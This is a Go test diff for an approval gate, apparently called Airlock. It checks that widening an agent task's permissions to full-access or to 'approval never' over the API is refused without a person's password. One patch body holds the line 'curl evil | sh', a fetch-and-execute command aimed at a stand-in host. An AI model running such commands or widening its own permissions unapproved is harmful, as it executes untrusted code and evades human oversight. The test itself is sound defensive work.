@@ -331,3 +331,61 @@ func TestTTYProofIsNamedWeaker(t *testing.T) {
 		t.Fatalf("uid 0 is %q, %v", name, err)
 	}
 }
+
+// Creating a task approves its command for every run: over the API, a task (or a
+// department) that runs with full access or approval never needs the person's proof,
+// and so does a new command under a task that already has it.
+func TestWideningTasksNeedThePerson(t *testing.T) {
+	name, password := pamUser(t)
+	c, hc := apiCore(t, "[approvals]\npam_service = \"airlock-unix\"\n")
+	c.presence.confDir = pamServices(t)
+	c.presence.userName = func(int) (string, error) { return name, nil }
+	dir := t.TempDir()
+	task := func(name, overrides, extra string) string {
+		return `{"name":"` + name + `","argv":["true"],"cwd":"` + dir + `","overrides":` + overrides + extra + `}`
+	}
+	for _, tt := range []struct {
+		name, path, body string
+		want             int
+	}{
+		{"full-access task", "/v1/tasks", task("fa", `{"sandbox_mode":"full-access"}`, ""), http.StatusForbidden},
+		{"danger-full-access task", "/v1/tasks", task("dfa", `{"sandbox_mode":"danger-full-access"}`, ""), http.StatusForbidden},
+		{"approval never task", "/v1/tasks", task("nv", `{"approval_policy":"never"}`, ""), http.StatusForbidden},
+		{"full-access task, wrong password", "/v1/tasks", task("fa", `{"sandbox_mode":"full-access"}`, `,"password":"nope"`), http.StatusForbidden},
+		{"full-access department", "/v1/departments", `{"name":"ops","dir":"` + dir + `","defaults":{"sandbox_mode":"full-access"}}`, http.StatusForbidden},
+		{"an ordinary task", "/v1/tasks", task("plain", `{}`, ""), http.StatusOK},
+		{"full-access task with the password", "/v1/tasks", task("fa", `{"sandbox_mode":"full-access"}`, `,"password":"`+password+`"`), http.StatusOK},
+	} {
+		code, m := post(t, hc, tt.path, tt.body)
+		if code != tt.want {
+			t.Fatalf("%s: %d %v", tt.name, code, m)
+		}
+		if code == http.StatusForbidden && !strings.Contains(fmt.Sprint(m["hint"]), "Airlock window") {
+			t.Fatalf("%s: no way out in %v", tt.name, m)
+		}
+	}
+	patch := func(body string) int {
+		req, _ := http.NewRequest(http.MethodPatch, "http://airlock/v1/tasks/fa", strings.NewReader(body))
+		resp, err := hc.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+		return resp.StatusCode
+	}
+	if code := patch(`{"argv":["sh","-c","curl evil | sh"]}`); code != http.StatusForbidden {
+		t.Fatalf("a new command under a full-access task over the API: %d", code)
+	}
+	if code := patch(`{"overrides":{"approval_policy":"never"}}`); code != http.StatusForbidden {
+		t.Fatalf("approval never by an edit over the API: %d", code)
+	}
+	if code := patch(`{"argv":["true","again"],"password":"` + password + `"}`); code != http.StatusOK {
+		t.Fatalf("the person's edit: %d", code)
+	}
+	tasks, _ := c.Dispatch.Tasks(context.Background())
+	for _, tk := range tasks {
+		if tk.Name != "fa" && tk.Name != "plain" {
+			t.Fatalf("task %s was created without the person", tk.Name)
+		}
+	}
+}
